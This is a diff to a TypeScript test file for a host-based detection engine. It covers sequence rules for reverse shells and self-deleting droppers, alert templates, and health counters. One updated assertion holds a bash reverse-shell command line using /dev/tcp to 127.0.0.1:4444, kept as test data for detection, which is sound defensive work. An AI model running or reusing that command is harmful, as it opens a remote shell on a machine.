@@ -4,7 +4,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import type { NormalizedRecord } from '../src/normalize/records.js';
 import type { CompiledSequenceRule, CompiledStep, RecordView } from '../src/rules/compiled.js';
-import { DetectionStage, plainRecordView, SEQUENCE_SWEEP_LAG_NS } from '../src/detect/detection-stage.js';
+import { DetectionStage, SEQUENCE_SWEEP_LAG_NS } from '../src/detect/detection-stage.js';
 import { SEQUENCE_RECORD_MAX_BYTES, type SequenceAlertRecord } from '../src/detect/sequence-alert.js';
 import { buildHealthRecord } from '../src/health/health-record.js';
 import { PipelineCounters } from '../src/health/counters.js';
@@ -57,7 +57,7 @@ const childStart = (t: number, parent = 'E-bash', exe = '/usr/bin/id') => ({
 });
 
 function stage(mode: 'monitor' | 'detect', rules: CompiledSequenceRule[], limits = {}): DetectionStage {
-  return new DetectionStage({ agent: { id: AGENT, mode } as never }, [], () => undefined, { sequenceRules: rules, sequenceLimits: limits });
+  return new DetectionStage({ agent: { id: AGENT, mode } as never }, { engineRules: [], sequences: rules }, () => undefined, undefined, { sequenceLimits: limits });
 }
 
 test('a completed sequence is one alert after its last record: metadata, acting process of the last record, every step', () => {
@@ -106,7 +106,7 @@ test('negatives: connect without a command, a command under another shell, steps
 
 test('condition alerts come first, then the sequence alert of the same record', () => {
   const cond = rule({ id: 'PROC-ID', type: 'process', process_names: ['id'] });
-  const d = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, [cond], () => undefined, { sequenceRules: [REVERSE] });
+  const d = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, { engineRules: [cond], sequences: [REVERSE] }, () => undefined);
   d.evaluate(shellConnect(T0));
   const { alerts } = d.evaluate(childStart(T0 + S));
   assert.deepEqual(alerts.map((a) => [a.rule_id, a.rule_type]), [['PROC-ID', 'process'], ['RG-SEQ-REVERSE-SHELL', 'sequence']]);
@@ -144,11 +144,11 @@ test('a record larger than the bound is summarized in the alert; BigInt timestam
   assert.ok(JSON.stringify(s1).length < SEQUENCE_RECORD_MAX_BYTES, 'the summary is bounded');
 });
 
-test('an output template is rendered with the last record\'s fields', () => {
-  const d = stage('monitor', [seqRule('RG-SEQ-T', [...REVERSE.steps], { output: '{exe_path} ran under {parent_exe_path} ({argv})' })]);
+test('an output template is rendered with the last record\'s fields (derived ones through its view), as for condition rules', () => {
+  const d = stage('monitor', [seqRule('RG-SEQ-T', [...REVERSE.steps], { output: '{exe_path} ran under {parent_exe_path} ({parent_command_line})' })]);
   d.evaluate(shellConnect(T0));
   const a = d.evaluate(childStart(T0 + S)).alerts[0] as SequenceAlertRecord;
-  assert.equal(a.summary, '/usr/bin/id ran under /usr/bin/bash (/usr/bin/id) Investigation signal, not proof of compromise.');
+  assert.equal(a.summary, '/usr/bin/id ran under /usr/bin/bash (bash -c exec 3<>/dev/tcp/127.0.0.1/4444; /usr/bin/id >&3)');
 });
 
 test('sweep: partials expire without further records, only once maxspan plus the in-flight lag has passed', () => {
@@ -191,7 +191,7 @@ test('health: a flood of first steps is visible as evictions per bound; every pa
 });
 
 test('health without sequence rules: every sequence key is present and 0', () => {
-  const d = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, [], () => undefined);
+  const d = new DetectionStage({ agent: { id: AGENT, mode: 'monitor' } as never }, { engineRules: [], sequences: [] }, () => undefined);
   assert.deepEqual(d.sequenceStats().rules, 0);
   const h = buildHealthRecord({
     agentId: AGENT, time: 't', timestampNs: 1n, uptimeSecs: 1, counters: new PipelineCounters(), kernel: null,
@@ -213,17 +213,9 @@ test('rules test replay runs the same sequences on recorded NDJSON (numbers and 
     { ...unlinkat('/tmp/dropper', { pid: 700, comm: 'dropper', exe_path: '/tmp/dropper', timestamp_ns: String(T0 + 2 * S) as never }), exec_id: 'E-d' },
     { event_type: 'health', raw_events_read: 3 },
   ];
-  const result = replayNdjson(lines.map((l) => JSON.stringify(l)).join('\n'), config, [], { sequenceRules: [selfDelete], viewOf: plainRecordView });
+  const result = replayNdjson(lines.map((l) => JSON.stringify(l)).join('\n'), config, [], [selfDelete]);
   const seq = result.alerts.filter((a) => a.rule_type === 'sequence') as SequenceAlertRecord[];
   assert.equal(seq.length, 1);
   assert.deepEqual(seq[0]!.sequence.map((r) => [r.event_type, r.filename]), [['process_start', '/tmp/dropper'], ['file_unlinkat', '/tmp/dropper']]);
   assert.deepEqual([result.sequences.started, result.sequences.completed], [1, 1]);
-});
-
-test('plainRecordView: own keys and dotted nested keys; absent is undefined', () => {
-  const v = plainRecordView({ ...processStart(), env: { LD_PRELOAD: '/x.so' } } as unknown as NormalizedRecord);
-  assert.equal(v.value('comm'), 'sh');
-  assert.equal(v.value('env.LD_PRELOAD'), '/x.so');
-  assert.equal(v.value('env.PATH'), undefined);
-  assert.equal(v.value('nope'), undefined);
 });
